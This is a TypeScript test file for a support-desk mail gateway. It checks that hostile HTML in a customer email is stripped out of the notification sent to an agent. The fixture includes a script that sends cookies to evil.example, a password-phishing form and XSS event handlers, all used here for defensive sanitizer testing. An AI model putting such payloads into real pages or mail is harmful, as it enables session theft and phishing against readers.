import { strict as assert } from 'node:assert';
import { startGateway, uniq, type TestGateway } from '../support/gateway';
import { waitForMail } from '../support/mail';
import { appendRaw, assertFinal, drain, keyOf, waitForOutcomes } from './helpers';

/** Markup a hostile customer could put in an HTML mail to attack the agent who reads the notification. */
const HOSTILE_HTML = `<html><body>
<p>My account is locked.</p>
<script>fetch('http://evil.example/steal?c='+document.cookie)</script>
<form action="http://evil.example/phish" method="post"><input name="password"><button>Log in again</button></form>
<iframe src="http://evil.example/frame"></iframe>
<img src="http://evil.example/x.png" onerror="alert(1)">
<a href="#" onclick="alert(2)" ONERROR = "alert(3)">details</a>
<svg onload="alert(4)"><script>alert(5)</script></svg>
</body></html>`;

describe('hostile: active HTML in a customer mail', function () {
  this.timeout(120_000);
  let gw: TestGateway;

  before(async () => {
    gw = await startGateway({ id: `ht${uniq()}` });
  });
  after(async () => gw?.stop());

  it('the agent notification HTML has no <script, <form, <iframe, onerror or http://evil.example', async () => {
    const customer = `html-${uniq()}@example.test`;
    const agent = gw.desk.agents[0].email;
    const raw = Buffer.from(
      `From: Customer <${customer}>\r\nTo: ${gw.support}\r\nSubject: Account locked\r\nMessage-ID: <html-${uniq()}@example.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="alt"\r\n\r\n--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nMy account is locked.\r\n--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${HOSTILE_HTML.replace(/\n/g, '\r\n')}\r\n--alt--\r\n`,
    );
    await appendRaw(gw, [raw]);
    const moved = await drain(gw, 1);
    const rows = await waitForOutcomes(gw, moved.map(keyOf));
    await assertFinal(gw, rows);
    assert.deepEqual(rows.map((r) => r.status), ['done']);
    const [note] = await waitForMail(gw.stack, agent, 1, 30_000);
    // The notification must have an HTML part for this check to mean anything.
    const html = typeof note.html === 'string' ? note.html : '';
    assert.ok(html.length > 0, 'the notification has an HTML part');
    for (const bad of [/<script/i, /<form/i, /<iframe/i, /onerror/i, /http:\/\/evil\.example/i]) assert.doesNotMatch(html, bad);
  });
});
